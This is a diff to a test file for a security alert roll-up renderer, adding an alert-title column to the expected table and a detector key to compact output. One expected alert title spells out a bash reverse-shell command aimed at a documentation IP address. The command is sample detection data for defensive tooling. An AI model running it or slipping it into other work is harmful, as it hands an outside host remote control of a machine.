@@ -91,9 +91,10 @@ describe('fleet rollup', () => {
       '- **Findings:** 2 (1 finding on 2 or more devices, covering 30 alerts; 1 alert on one device)',
     );
     const overview = cells(tree)[0]!;
-    expect(overview.rows.map((r) => [r[0], r[3], r[4]])).toEqual([
-      ['ALERT-001', 'web-07', '1'],
-      ['FINDING-001', '30 devices', '90'],
+    expect(overview.rows.map((r) => [r[0], r[2], r[3], r[4]])).toEqual([
+      ['ALERT-001', 'Reverse shell bash -i >& /dev/tcp/203.0.113.50/4444 0>&1', 'web-07', '1'],
+      // The key tells apart the findings of one detector.
+      ['FINDING-001', 'sysstat activity collection (sa1 / debian-sa1) · debian-sa1', '30 devices', '90'],
     ]);
   });
 
@@ -108,7 +109,7 @@ describe('fleet rollup', () => {
   it('compact: one line for the finding', () => {
     const compact = renderMarkdown(fleetRun(30), { compact: true });
     expect(compact).toContain(
-      '- 🟢 LOW **FINDING-001** sysstat activity collection (sa1 / debian-sa1) · 30 devices · 90 events',
+      '- 🟢 LOW **FINDING-001** sysstat activity collection (sa1 / debian-sa1) · `debian-sa1` · 30 devices · 90 events',
     );
     expect(compact.match(/ALERT-\d+/g)).toEqual(['ALERT-001', 'ALERT-001']);
   });
